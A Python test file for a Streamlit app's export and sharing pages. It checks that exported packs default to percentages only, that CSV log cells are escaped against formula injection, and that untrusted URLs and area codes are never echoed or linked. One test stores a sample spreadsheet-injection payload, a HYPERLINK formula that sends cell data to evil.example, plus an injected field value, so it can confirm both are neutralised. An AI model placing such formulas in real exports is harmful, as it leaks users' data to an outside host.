"""What leaves the app, through AppTest: the Exports page builds a pack without counts unless they
are asked for; the sharing log's table (whose toolbar exports CSV) has formulas neutralised; a
`?la=` value that is not an area code is never repeated on screen; a web address in the dataset's
text reaches markdown with its dots and colons joined by a word joiner (the browser test in
tests/browser/test_injection.py checks that no link is drawn)."""

from __future__ import annotations

import re
import shutil
from io import BytesIO
from pathlib import Path

import pytest
from pypdf import PdfReader
from streamlit.testing.v1 import AppTest

from components.text import WORD_JOINER
from insight.core.selection import WHOLE_AREA, Selection
from insight.sharing import store
from tests.app.harness import open_app, page_alone

ROOT = Path(__file__).resolve().parents[2]
SHARING = str(ROOT / "pages" / "sharing" / "sharing.py")


@pytest.fixture(autouse=True)
def _root_on_path(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(ROOT))


@pytest.fixture
def no_chromium(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("insight.outputs.png.chromium_path", lambda: None)  # packs of tables: fast


def sharing_page(sel: Selection) -> AppTest:
    return page_alone(SHARING, sel)


def _pdf_text(data: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(BytesIO(data)).pages)


def test_the_pack_has_no_counts_unless_asked(no_chromium) -> None:
    at = sharing_page(Selection(la="E08000026", mode="standard"))
    assert not at.exception
    assert at.radio(key="sharing_counts").value is False, "percentages only is the default"
    at.multiselect(key="sharing_charts").set_value(["barriers"])
    at.button(key="sharing_build").click().run()
    assert not at.exception
    (entry,) = store.list_log()
    assert (entry.kind, entry.mode) == ("pack", "presenter")
    pack = at.session_state["sharing_pack"][1]
    text = _pdf_text(pack.pdf)
    assert "percentages only, no counts" in text and not _says_counts(text)

    at.radio(key="sharing_counts").set_value(True).run()
    at.button(key="sharing_build").click().run()
    newest = store.list_log()[0]
    assert (newest.kind, newest.mode) == ("pack", "standard")
    assert _says_counts(_pdf_text(at.session_state["sharing_pack"][1].pdf))


def _says_counts(text: str) -> bool:
    """A pack table with counts: a count column, or (wide tables) counts in brackets after the
    shares, which its caption says."""
    return "Count (rounded)" in text or "the count rounded to the nearest 5" in text


def test_the_log_table_neutralises_formulas(no_chromium) -> None:
    note = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    store.add_log(
        kind="csv",
        provider="@provider",
        source="s",
        fingerprint="f",
        la="all",
        la_name="-2+3+cmd",
        period="whole",
        period_label="Whole",
        mode="standard",
        included=["barriers"],
        file_name="barriers.csv",
        sha256="0" * 64,
        note=note,
    )
    at = sharing_page(Selection(mode="standard"))
    log = at.dataframe[0].value
    assert log["Meeting or recipient"].tolist() == ["'" + note]
    assert log["Provider"].tolist() == ["'@provider"] and log["Area"].tolist() == ["'-2+3+cmd"]
    assert log["What"].tolist() == ["Safe table (CSV)"]
    at.selectbox(key="log_kind").set_value("csv").run()
    assert len(at.dataframe[0].value) == 1


@pytest.fixture
def url_dataset(tmp_path: Path, sample_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "urls"
    shutil.copytree(sample_dir, folder, ignore=shutil.ignore_patterns("geo", "README.md"))
    toml = folder / "dataset.toml"
    text = toml.read_text(encoding="utf-8")
    # info@ is a role mailbox: a person's address in provider_name refuses the dataset (issue 30)
    text = re.sub(
        r"(?m)^provider_name = .*$",
        'provider_name = "Heartwood www.evil.example/x https://evil.example/y info@evil.example"',
        text,
    )
    toml.write_text(text, encoding="utf-8")
    monkeypatch.setenv("INSIGHT_DATASET", str(folder))
    return folder


@pytest.mark.parametrize("la", ["www.evil.example/x", "Call 0800 000 000 now", "E09999999x"])
def test_an_la_value_that_is_not_an_area_code_is_not_repeated(
    sample_dir: Path, monkeypatch: pytest.MonkeyPatch, la: str
) -> None:
    monkeypatch.setenv("INSIGHT_DATASET", str(sample_dir))
    at = open_app(la=la)
    assert not at.exception
    assert at.session_state["selection"].la == WHOLE_AREA
    (notice,) = [w.value for w in at.warning if "The link asked for" in w.value]
    assert "asked for an area\\, which" in notice  # literal() escapes the comma
    assert "evil" not in notice and "0800" not in notice and "E09999999" not in notice


def test_web_addresses_in_dataset_text_reach_markdown_unlinkable(url_dataset: Path) -> None:
    at = open_app()
    assert not at.exception
    banner = " ".join(m.value for m in at.markdown if "Heartwood" in m.value)
    assert banner, "the banner names the provider"
    for address in ("www.evil.example", "https://evil.example", "info@evil.example"):
        assert address not in banner.replace("\\", "")
    visible = banner.replace(WORD_JOINER, "").replace("\\", "")
    assert "www.evil.example/x https://evil.example/y info@evil.example" in visible
